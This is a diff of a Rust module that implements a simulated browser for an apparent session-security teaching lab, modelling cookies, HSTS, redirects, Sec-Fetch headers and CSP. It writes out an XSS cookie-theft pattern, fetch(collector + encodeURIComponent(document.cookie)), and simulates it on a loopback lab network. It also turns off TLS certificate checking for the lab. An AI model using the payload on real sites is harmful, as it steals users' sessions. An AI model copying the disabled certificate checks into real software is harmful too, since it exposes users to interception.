@@ -1,9 +1,23 @@
 //! The browser an actor drives.
-use std::time::SystemTime;
-use url::Url;
+//!
+//! reqwest only carries bytes here: it has no cookie store, follows no redirects and sees no
+//! proxy. Everything a browser decides - which cookies go out, which come in, HSTS upgrades,
+//! redirects, Sec-Fetch-* headers, which scripts run - is decided in this crate, in code a
+//! learner can read.
+use std::time::{Duration, SystemTime};
 
-use crate::{CookieDecision, CookieJar, HstsStore, Network, ScriptEffect, SetCookieOutcome};
+use reqwest::header::{HeaderName, HeaderValue};
+use url::{Url, form_urlencoded};
 
+use crate::jar::same_site;
+use crate::script::{csp_allows_inline_script, encode_uri_component, parse_exfiltration};
+use crate::{
+    CookieDecision, CookieJar, CookieSource, HstsStore, Network, RequestContext, ScriptEffect,
+    SetCookieOutcome,
+};
+
+/// Why a request could not produce a page. HTTP error statuses (401, 500, ...) are not errors:
+/// they are pages, as in a browser.
 #[derive(Debug, thiserror::Error)]
 pub enum BrowserError {
     #[error("{host} is not a host in the lab network (nothing leaves loopback)")]
@@ -38,6 +52,45 @@ pub struct RequestSpec {
     pub follow_redirects: bool,
 }
 
+impl RequestSpec {
+    /// A top-level GET navigation that follows redirects (a link, or the address bar when
+    /// `initiator` is None).
+    pub fn navigate(url: Url, initiator: Option<Url>) -> Self {
+        Self {
+            method: "GET".to_string(),
+            url,
+            form: None,
+            kind: RequestKind::Navigation,
+            initiator,
+            follow_redirects: true,
+        }
+    }
+
+    /// A top-level form POST that follows redirects, as a submitted `<form method="post">`.
+    pub fn post_form(url: Url, fields: Vec<(String, String)>, initiator: Option<Url>) -> Self {
+        Self {
+            method: "POST".to_string(),
+            url,
+            form: Some(fields),
+            kind: RequestKind::Navigation,
+            initiator,
+            follow_redirects: true,
+        }
+    }
+
+    /// A subresource GET (an `<img>`, a `fetch()`) that does not follow redirects.
+    pub fn subresource(url: Url, initiator: Option<Url>) -> Self {
+        Self {
+            method: "GET".to_string(),
+            url,
+            form: None,
+            kind: RequestKind::Subresource,
+            initiator,
+            follow_redirects: false,
+        }
+    }
+}
+
 /// One request/response as it crossed the wire, with what the browser decided about it.
 #[derive(Debug, Clone)]
 pub struct Exchange {
@@ -53,6 +106,18 @@ pub struct Exchange {
     pub body: String,
 }
 
+impl Exchange {
+    /// First request header with this (case-insensitive) name.
+    pub fn request_header(&self, name: &str) -> Option<&str> {
+        first_header(&self.request_headers, name)
+    }
+
+    /// First response header with this (case-insensitive) name.
+    pub fn response_header(&self, name: &str) -> Option<&str> {
+        first_header(&self.response_headers, name)
+    }
+}
+
 /// The last response of a request (after redirects), with the effect of its scripts.
 #[derive(Debug, Clone)]
 pub struct Page {
@@ -66,38 +131,693 @@ pub struct Page {
 impl Page {
     /// First header value with this (case-insensitive) name.
     pub fn header(&self, name: &str) -> Option<&str> {
-        self.headers.iter().find(|(n, _)| n.eq_ignore_ascii_case(name)).map(|(_, v)| v.as_str())
+        first_header(&self.headers, name)
+    }
+
+    /// The forms on this page, actions resolved against its URL.
+    pub fn forms(&self) -> Vec<crate::html::Form> {
+        crate::html::forms(&self.body, &self.url)
+    }
+
+    /// The trimmed text of the element with this id (e.g. the private note).
+    pub fn text_by_id(&self, id: &str) -> Option<String> {
+        crate::html::text_by_id(&self.body, id)
     }
 }
 
+/// How many redirects a request may follow (Fetch's limit is 20; the lab needs far fewer).
+pub const MAX_REDIRECTS: usize = 10;
+
+/// How long one request may take before it counts as unreachable.
+const REQUEST_TIMEOUT: Duration = Duration::from_secs(10);
+
+/// One actor's browser: its own cookie jar, HSTS memory, view of the lab network, and the record
+/// of every exchange it made (the evidence a lesson shows).
+#[derive(Debug)]
 pub struct Browser {
     pub name: String,
     pub jar: CookieJar,
     pub hsts: HstsStore,
     pub network: Network,
     pub exchanges: Vec<Exchange>,
+    /// Failures of requests that page scripts made: recorded here, never fatal to the page.
+    pub script_errors: Vec<String>,
+    client: reqwest::Client,
+    clock_offset: Duration,
 }
 
 impl Browser {
-    pub fn new(_name: impl Into<String>, _network: Network) -> Self {
-        todo!()
+    /// A fresh browser (empty jar, no HSTS hosts) for the actor `name`, on the lab `network`.
+    ///
+    /// The one reqwest client of this browser carries bytes and nothing else: no redirects (the
+    /// browser follows them itself, applying its cookie rules at every hop), no proxy, no cookie
+    /// store (reqwest's would ignore SameSite, HttpOnly and the prefixes), HTTP/1.1 only (so the
+    /// explicit `Host` header is the one on the wire).
+    ///
+    /// It also accepts any TLS certificate: the lab's certificate is self-signed and made at
+    /// start-up. This is the one place where the model is kinder than a real browser, which would
+    /// stop at a warning page; the lessons are about sessions, not about PKI.
+    ///
+    /// # Panics
+    /// Only if the TLS backend cannot be initialised at all, which no input can cause.
+    pub fn new(name: impl Into<String>, network: Network) -> Self {
+        let client = reqwest::Client::builder()
+            .redirect(reqwest::redirect::Policy::none())
+            .no_proxy()
+            .danger_accept_invalid_certs(true)
+            .http1_only()
+            .timeout(REQUEST_TIMEOUT)
+            .build()
+            .expect("reqwest's rustls client builds without system configuration");
+        Self {
+            name: name.into(),
+            jar: CookieJar::new(),
+            hsts: HstsStore::new(),
+            network,
+            exchanges: Vec::new(),
+            script_errors: Vec::new(),
+            client,
+            clock_offset: Duration::ZERO,
+        }
     }
+
     /// Sends a request as a browser would: HSTS upgrade, cookies from the jar, Set-Cookie into the jar,
     /// redirects (if asked), and for HTML navigations the page's inline scripts through the script model.
-    pub async fn request(&mut self, _spec: RequestSpec) -> Result<Page, BrowserError> {
-        todo!()
+    pub async fn request(&mut self, spec: RequestSpec) -> Result<Page, BrowserError> {
+        let is_navigation = spec.kind == RequestKind::Navigation;
+        let mut page = self.fetch(spec).await?;
+        if is_navigation && is_rendered_html(&page) {
+            page.scripts = self.run_scripts(&page).await;
+        }
+        Ok(page)
     }
+
     /// A top-level GET navigation that follows redirects.
-    pub async fn open(&mut self, _url: &Url, _initiator: Option<&Url>) -> Result<Page, BrowserError> {
-        todo!()
+    pub async fn open(&mut self, url: &Url, initiator: Option<&Url>) -> Result<Page, BrowserError> {
+        self.request(RequestSpec::navigate(url.clone(), initiator.cloned()))
+            .await
     }
+
     /// Fills and submits the form whose action contains `action_contains` on `page` (a top-level navigation
     /// initiated by that page), keeping the form's other fields (hidden inputs) as they are.
-    pub async fn submit_form(&mut self, _page: &Page, _action_contains: &str, _values: &[(&str, &str)]) -> Result<Page, BrowserError> {
-        todo!()
+    ///
+    /// `values` override fields of the same name (the first one) or are added at the end. A GET
+    /// form puts the fields in the action URL's query, as HTML's form submission does.
+    pub async fn submit_form(
+        &mut self,
+        page: &Page,
+        action_contains: &str,
+        values: &[(&str, &str)],
+    ) -> Result<Page, BrowserError> {
+        let form = page
+            .forms()
+            .into_iter()
+            .find(|form| form.action.as_str().contains(action_contains))
+            .ok_or_else(|| {
+                BrowserError::NoSuchForm(action_contains.to_string(), page.url.to_string())
+            })?;
+        let mut fields = form.fields;
+        for (name, value) in values {
+            match fields.iter_mut().find(|(field, _)| field == name) {
+                Some(field) => field.1 = (*value).to_string(),
+                None => fields.push(((*name).to_string(), (*value).to_string())),
+            }
+        }
+        let spec = if form.method == "POST" {
+            RequestSpec::post_form(form.action, fields, Some(page.url.clone()))
+        } else {
+            let mut action = form.action;
+            action.set_query(Some(&urlencode(&fields)));
+            RequestSpec::navigate(action, Some(page.url.clone()))
+        };
+        self.request(spec).await
     }
+
     /// Now, as the jar and HSTS see it.
     pub fn now(&self) -> SystemTime {
-        SystemTime::now()
+        SystemTime::now() + self.clock_offset
+    }
+
+    /// Moves this browser's clock forward, e.g. past the 2-minute Lax+POST window or past a
+    /// cookie's Max-Age, without waiting. Only the browser's view of time changes.
+    pub fn advance_clock(&mut self, by: Duration) {
+        self.clock_offset += by;
+    }
+
+    /// The last exchange this browser recorded.
+    pub fn last_exchange(&self) -> Option<&Exchange> {
+        self.exchanges.last()
+    }
+
+    /// Sends `spec` and follows its redirects if asked (Fetch "HTTP-redirect fetch"), up to
+    /// [`MAX_REDIRECTS`]. Each hop is a full request of its own: HSTS, cookies and Set-Cookie
+    /// apply at every hop, and the original initiator stays the initiator.
+    async fn fetch(&mut self, spec: RequestSpec) -> Result<Page, BrowserError> {
+        let mut hop = Hop {
+            method: spec.method.clone(),
+            url: spec.url.clone(),
+            form: spec.form.clone(),
+        };
+        for _ in 0..=MAX_REDIRECTS {
+            let exchange = self.send_one(&hop, &spec).await?;
+            let next = if spec.follow_redirects {
+                redirect_hop(&hop, &exchange)
+            } else {
+                None
+            };
+            match next {
+                Some(next) => hop = next,
+                None => {
+                    return Ok(Page {
+                        url: exchange.url.clone(),
+                        status: exchange.status,
+                        headers: exchange.response_headers.clone(),
+                        body: exchange.body.clone(),
+                        scripts: Vec::new(),
+                    });
+                }
+            }
+        }
+        Err(BrowserError::TooManyRedirects {
+            url: spec.url.to_string(),
+        })
+    }
+
+    /// One request and its response, recorded as an [`Exchange`].
+    async fn send_one(&mut self, hop: &Hop, spec: &RequestSpec) -> Result<Exchange, BrowserError> {
+        let now = self.now();
+        // Rule 11 (RFC 6797 8.3): the upgrade happens before anything leaves the browser.
+        let (url, upgraded_from) = match self.hsts.upgrade(&hop.url, now) {
+            Some(upgraded) => (upgraded, Some(hop.url.clone())),
+            None => (hop.url.clone(), None),
+        };
+        if !matches!(url.scheme(), "http" | "https") {
+            return Err(BrowserError::BadUrl(format!(
+                "{url} (the lab browser speaks http and https only)"
+            )));
+        }
+        let address = self.network.resolve(&url)?;
+        let top_level = spec.kind == RequestKind::Navigation;
+        let ctx = RequestContext {
+            url: &url,
+            method: &hop.method,
+            top_level,
+            initiator: spec.initiator.as_ref(),
+        };
+        let (cookie_header, cookie_decisions) = self.jar.cookies_for(&ctx, now);
+        let body = hop.form.as_deref().map(urlencode);
+        let headers = self.request_headers(&url, &hop.method, spec, cookie_header, body.is_some());
+
+        let method = reqwest::Method::from_bytes(hop.method.as_bytes()).map_err(|_| {
+            BrowserError::BadUrl(format!("{url} with the invalid method {:?}", hop.method))
+        })?;
+        let mut wire_url = url.clone();
+        // Connect to the routed socket; the lab host name travels in the Host header.
+        wire_url
+            .set_ip_host(address.ip())
+            .and_then(|()| wire_url.set_port(Some(address.port())))
+            .map_err(|()| BrowserError::BadUrl(url.to_string()))?;
+        wire_url.set_fragment(None);
+        let mut builder = self.client.request(method, wire_url);
+        for (name, value) in &headers {
+            if let (Ok(name), Ok(value)) = (
+                HeaderName::try_from(name.as_str()),
+                HeaderValue::from_bytes(value.as_bytes()),
+            ) {
+                builder = builder.header(name, value);
+            }
+        }
+        if let Some(body) = body {
+            builder = builder.body(body);
+        }
+        let request = builder.build().map_err(|error| unreachable(&url, &error))?;
+        let request_headers = header_pairs(request.headers());
+
+        let response = self
+            .client
+            .execute(request)
+            .await
+            .map_err(|error| unreachable(&url, &error))?;
+        let status = response.status().as_u16();
+        let response_headers = header_pairs(response.headers());
+        let body = response
+            .text()
+            .await
+            .map_err(|error| unreachable(&url, &error))?;
+
+        let set_cookie_outcomes = response_headers
+            .iter()
+            .filter(|(name, _)| name.eq_ignore_ascii_case("set-cookie"))
+            .map(|(_, value)| self.jar.set_cookie(&url, value, CookieSource::Http, now))
+            .collect();
+        // RFC 6797 8.1: only the first Strict-Transport-Security header counts (and only over https,
+        // which `observe` checks).
+        if let Some(sts) = first_header(&response_headers, "strict-transport-security") {
+            self.hsts.observe(&url, sts, now);
+        }
+        let exchange = Exchange {
+            method: hop.method.clone(),
+            url,
+            upgraded_from,
+            request_headers,
+            cookie_decisions,
+            status,
+            response_headers,
+            set_cookie_outcomes,
+            body,
+        };
+        self.exchanges.push(exchange.clone());
+        Ok(exchange)
+    }
+
+    /// The headers a Chromium-like browser sends, in the order it sends them.
+    ///
+    /// `Host` names the lab host (the connection goes to the routed address). `Origin` goes with
+    /// every POST (Fetch: "null" when there is no initiating page). `Referer` is the initiating
+    /// page's full URL without fragment or credentials (Referrer-Policy handling is not modelled
+    /// yet). `Sec-Fetch-Site` / `-Mode` / `-Dest` tell the server where the request came from,
+    /// which is what a server-side CSRF defence can check.
+    fn request_headers(
+        &self,
+        url: &Url,
+        method: &str,
+        spec: &RequestSpec,
+        cookie_header: Option<String>,
+        has_form_body: bool,
+    ) -> Vec<(String, String)> {
+        let navigation = spec.kind == RequestKind::Navigation;
+        let mut headers = vec![
+            ("Host".to_string(), host_header(url)),
+            (
+                "User-Agent".to_string(),
+                format!(
+                    "sessionlab-browser/{} ({})",
+                    env!("CARGO_PKG_VERSION"),
+                    self.name
+                ),
+            ),
+            (
+                "Accept".to_string(),
+                if navigation {
+                    "text/html,*/*;q=0.8"
+                } else {
+                    "*/*"
+                }
+                .to_string(),
+            ),
+        ];
+        if let Some(cookies) = cookie_header {
+            headers.push(("Cookie".to_string(), cookies));
+        }
+        if method.eq_ignore_ascii_case("POST") {
+            let origin = spec.initiator.as_ref().map_or("null".to_string(), |page| {
+                page.origin().ascii_serialization()
+            });
+            headers.push(("Origin".to_string(), origin));
+        }
+        if let Some(initiator) = &spec.initiator {
+            headers.push(("Referer".to_string(), referrer_url(initiator)));
+        }
+        headers.push((
+            "Sec-Fetch-Site".to_string(),
+            sec_fetch_site(spec.initiator.as_ref(), url).to_string(),
+        ));
+        headers.push((
+            "Sec-Fetch-Mode".to_string(),
+            if navigation { "navigate" } else { "no-cors" }.to_string(),
+        ));
+        headers.push((
+            "Sec-Fetch-Dest".to_string(),
+            if navigation { "document" } else { "empty" }.to_string(),
+        ));
+        if has_form_body {
+            headers.push((
+                "Content-Type".to_string(),
+                "application/x-www-form-urlencoded".to_string(),
+            ));
+        }
+        headers
+    }
+
+    /// Runs the page's inline scripts through the script model, in document order.
+    ///
+    /// A script runs only if it is a real `<script>` element of the parsed page and the page's
+    /// Content-Security-Policy allows inline script. The exfiltration program reads
+    /// `document.cookie` (no HttpOnly cookies) and requests the collector URL; any other script
+    /// is ignored.
+    async fn run_scripts(&mut self, page: &Page) -> Vec<ScriptEffect> {
+        let policy = content_security_policy(&page.headers);
+        let mut effects = Vec::new();
+        for script in crate::html::inline_scripts(&page.body) {
+            let effect = if !csp_allows_inline_script(policy.as_deref()) {
+                ScriptEffect::BlockedByCsp {
+                    policy: policy.clone().unwrap_or_default(),
+                }
+            } else if let Some(collector) = parse_exfiltration(&script) {
+                self.exfiltrate(&page.url, &collector).await
+            } else {
+                ScriptEffect::Ignored {
+                    excerpt: excerpt(&script),
+                }
+            };
+            effects.push(effect);
+        }
+        effects
+    }
+
+    /// The exfiltration program: `fetch(collector + encodeURIComponent(document.cookie))`, a
+    /// subresource GET started by the page. A failed request is recorded in `script_errors`.
+    async fn exfiltrate(&mut self, page_url: &Url, collector: &str) -> ScriptEffect {
+        let document_cookie = self.jar.document_cookie(page_url, self.now());
+        let target = format!("{collector}{}", encode_uri_component(&document_cookie));
+        let request = match page_url.join(&target) {
+            Ok(request) => request,
+            Err(error) => {
+                self.script_errors
+                    .push(format!("fetch({target:?}) on {page_url}: {error}"));
+                return ScriptEffect::Ignored {
+                    excerpt: excerpt(&format!("fetch('{collector}'...) to an invalid URL")),
+                };
+            }
+        };
+        let spec = RequestSpec::subresource(request.clone(), Some(page_url.clone()));
+        if let Err(error) = self.fetch(spec).await {
+            self.script_errors
+                .push(format!("fetch from a script on {page_url}: {error}"));
+        }
+        ScriptEffect::Exfiltrated {
+            document_cookie,
+            request,
+        }
+    }
+}
+
+/// One hop of a redirect chain: what to request next.
+#[derive(Debug, Clone)]
+struct Hop {
+    method: String,
+    url: Url,
+    form: Option<Vec<(String, String)>>,
+}
+
+/// Fetch "HTTP-redirect fetch": the next hop for a redirect response, if it is one with a usable
+/// `Location` (resolved against the current URL). 301/302 turn a POST into a body-less GET and 303
+/// turns anything but GET/HEAD into one (what browsers do, so a form POST lands on a page);
+/// 307/308 repeat the same method and body.
+fn redirect_hop(current: &Hop, exchange: &Exchange) -> Option<Hop> {
+    if !matches!(exchange.status, 301 | 302 | 303 | 307 | 308) {
+        return None;
+    }
+    let location = exchange.response_header("location")?;
+    let url = exchange.url.join(location.trim()).ok()?;
+    let becomes_get = match exchange.status {
+        301 | 302 => current.method.eq_ignore_ascii_case("POST"),
+        303 => {
+            !(current.method.eq_ignore_ascii_case("GET")
+                || current.method.eq_ignore_ascii_case("HEAD"))
+        }
+        _ => false,
+    };
+    Some(if becomes_get {
+        Hop {
+            method: "GET".to_string(),
+            url,
+            form: None,
+        }
+    } else {
+        Hop {
+            method: current.method.clone(),
+            url,
+            form: current.form.clone(),
+        }
+    })
+}
+
+/// Sec-Fetch-Site (Fetch Metadata): `none` for a user-started request, `same-origin`,
+/// `same-site` (e.g. `evil.lab.test` -> `app.lab.test`) or `cross-site`.
+fn sec_fetch_site(initiator: Option<&Url>, target: &Url) -> &'static str {
+    match initiator {
+        None => "none",
+        Some(page) if page.origin() == target.origin() => "same-origin",
+        Some(page) if same_site(page, target) => "same-site",
+        Some(_) => "cross-site",
+    }
+}
+
+/// The `Host` header: the lab host, with the port when it is not the scheme's default.
+fn host_header(url: &Url) -> String {
+    let host = url.host_str().unwrap_or_default();
+    match url.port() {
+        Some(port) => format!("{host}:{port}"),
+        None => host.to_string(),
+    }
+}
+
+/// The initiator as a `Referer` value: the full URL minus fragment and credentials, which Fetch
+/// never sends whatever the referrer policy.
+fn referrer_url(page: &Url) -> String {
+    let mut referrer = page.clone();
+    referrer.set_fragment(None);
+    // Both only fail for URLs without a host, which have no credentials to strip.
+    let _ = referrer.set_username("");
+    let _ = referrer.set_password(None);
+    referrer.to_string()
+}
+
+/// All `Content-Security-Policy` headers of a response, joined with ", " (each one is enforced).
+/// `Content-Security-Policy-Report-Only` blocks nothing and is not read.
+fn content_security_policy(headers: &[(String, String)]) -> Option<String> {
+    let policies: Vec<&str> = headers
+        .iter()
+        .filter(|(name, _)| name.eq_ignore_ascii_case("content-security-policy"))
+        .map(|(_, value)| value.as_str())
+        .collect();
+    (!policies.is_empty()).then(|| policies.join(", "))
+}
+
+/// Whether a browser would render this response as an HTML page (and so run its scripts):
+/// an HTML content type and not a redirect.
+fn is_rendered_html(page: &Page) -> bool {
+    let html = page
+        .header("content-type")
+        .is_some_and(|kind| kind.to_ascii_lowercase().contains("text/html"));
+    html && !(300..400).contains(&page.status)
+}
+
+/// The first 80 characters of a script, whitespace collapsed, for reports.
+fn excerpt(script: &str) -> String {
+    let collapsed = script.split_whitespace().collect::<Vec<_>>().join(" ");
+    let mut excerpt: String = collapsed.chars().take(80).collect();
+    if collapsed.chars().count() > 80 {
+        excerpt.push_str("...");
+    }
+    excerpt
+}
+
+/// `application/x-www-form-urlencoded` serialisation of form fields.
+fn urlencode(fields: &[(String, String)]) -> String {
+    form_urlencoded::Serializer::new(String::new())
+        .extend_pairs(fields)
+        .finish()
+}
+
+/// Headers as (name, value) strings; a non-UTF-8 value is shown lossily rather than dropped.
+fn header_pairs(headers: &reqwest::header::HeaderMap) -> Vec<(String, String)> {
+    headers
+        .iter()
+        .map(|(name, value)| {
+            (
+                name.as_str().to_string(),
+                String::from_utf8_lossy(value.as_bytes()).into_owned(),
+            )
+        })
+        .collect()
+}
+
+/// The first value of a header, names compared case-insensitively as HTTP requires.
+fn first_header<'a>(headers: &'a [(String, String)], name: &str) -> Option<&'a str> {
+    headers
+        .iter()
+        .find(|(n, _)| n.eq_ignore_ascii_case(name))
+        .map(|(_, v)| v.as_str())
+}
+
+/// A transport error as `Unreachable`, with the whole error chain as the reason ("error sending
+/// request: client error (Connect): tcp connect error: Connection refused (os error 111)").
+fn unreachable(url: &Url, error: &(dyn std::error::Error + 'static)) -> BrowserError {
+    let mut parts = vec![error.to_string()];
+    let mut source = error.source();
+    while let Some(cause) = source {
+        let text = cause.to_string();
+        if !parts.iter().any(|part| part.contains(&text)) {
+            parts.push(text);
+        }
+        source = cause.source();
+    }
+    BrowserError::Unreachable {
+        url: url.to_string(),
+        reason: parts.join(": "),
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn url(text: &str) -> Url {
+        Url::parse(text).expect("test URL")
+    }
+
+    fn exchange(status: u16, at: &str, location: Option<&str>) -> Exchange {
+        Exchange {
+            method: "POST".into(),
+            url: url(at),
+            upgraded_from: None,
+            request_headers: Vec::new(),
+            cookie_decisions: Vec::new(),
+            status,
+            response_headers: location
+                .map(|l| vec![("location".to_string(), l.to_string())])
+                .unwrap_or_default(),
+            set_cookie_outcomes: Vec::new(),
+            body: String::new(),
+        }
+    }
+
+    fn post_hop() -> Hop {
+        Hop {
+            method: "POST".into(),
+            url: url("http://app.lab.test:1/login"),
+            form: Some(vec![("a".into(), "1".into())]),
+        }
+    }
+
+    #[test]
+    fn redirects_303_and_302_turn_post_into_get() {
+        for status in [301, 302, 303] {
+            let next = redirect_hop(
+                &post_hop(),
+                &exchange(status, "http://app.lab.test:1/login", Some("/account")),
+            )
+            .expect("a redirect");
+            assert_eq!(
+                (next.method.as_str(), next.url.as_str()),
+                ("GET", "http://app.lab.test:1/account")
+            );
+            assert!(next.form.is_none());
+        }
+    }
+
+    #[test]
+    fn redirects_307_and_308_keep_method_and_body() {
+        for status in [307, 308] {
+            let next = redirect_hop(
+                &post_hop(),
+                &exchange(status, "http://app.lab.test:1/a/b", Some("c")),
+            )
+            .expect("a redirect");
+            assert_eq!(
+                (next.method.as_str(), next.url.as_str()),
+                ("POST", "http://app.lab.test:1/a/c")
+            );
+            assert!(next.form.is_some());
+        }
+    }
+
+    #[test]
+    fn no_location_or_no_redirect_status_stops() {
+        assert!(
+            redirect_hop(&post_hop(), &exchange(302, "http://app.lab.test:1/", None)).is_none()
+        );
+        assert!(
+            redirect_hop(
+                &post_hop(),
+                &exchange(200, "http://app.lab.test:1/", Some("/x"))
+            )
+            .is_none()
+        );
+        assert!(
+            redirect_hop(
+                &post_hop(),
+                &exchange(304, "http://app.lab.test:1/", Some("/x"))
+            )
+            .is_none()
+        );
+    }
+
+    #[test]
+    fn sec_fetch_site_values() {
+        let app = url("http://app.lab.test:1/x");
+        assert_eq!(sec_fetch_site(None, &app), "none");
+        assert_eq!(
+            sec_fetch_site(Some(&url("http://app.lab.test:1/y")), &app),
+            "same-origin"
+        );
+        assert_eq!(
+            sec_fetch_site(Some(&url("http://evil.lab.test:2/")), &app),
+            "same-site"
+        );
+        assert_eq!(
+            sec_fetch_site(Some(&url("http://app.lab.test:2/")), &app),
+            "same-site"
+        );
+        assert_eq!(
+            sec_fetch_site(Some(&url("https://app.lab.test:1/")), &app),
+            "cross-site"
+        );
+        assert_eq!(
+            sec_fetch_site(Some(&url("http://evil.example/")), &app),
+            "cross-site"
+        );
+    }
+
+    #[test]
+    fn host_header_keeps_non_default_ports() {
+        assert_eq!(
+            host_header(&url("http://app.lab.test:4000/")),
+            "app.lab.test:4000"
+        );
+        assert_eq!(host_header(&url("https://app.lab.test/")), "app.lab.test");
+    }
+
+    #[test]
+    fn referrer_drops_fragment_and_credentials() {
+        assert_eq!(
+            referrer_url(&url("http://u:p@app.lab.test:1/a?sid=1#frag")),
+            "http://app.lab.test:1/a?sid=1"
+        );
+    }
+
+    #[test]
+    fn csp_headers_are_joined() {
+        let headers = vec![
+            (
+                "content-security-policy".to_string(),
+                "script-src 'unsafe-inline'".to_string(),
+            ),
+            (
+                "Content-Security-Policy".to_string(),
+                "default-src 'self'".to_string(),
+            ),
+        ];
+        assert_eq!(
+            content_security_policy(&headers).as_deref(),
+            Some("script-src 'unsafe-inline', default-src 'self'")
+        );
+        assert_eq!(content_security_policy(&[]), None);
+    }
+
+    #[test]
+    fn excerpts_are_short() {
+        assert_eq!(excerpt("  alert(1)\n  "), "alert(1)");
+        assert_eq!(excerpt(&"x".repeat(100)).len(), 83);
+    }
+
+    #[test]
+    fn request_future_is_send() {
+        fn assert_send<T: Send>(_: &T) {}
+        let mut browser = Browser::new("victim", Network::new());
+        let future = browser.request(RequestSpec::navigate(url("http://app.lab.test:1/"), None));
+        assert_send(&future);
     }
 }
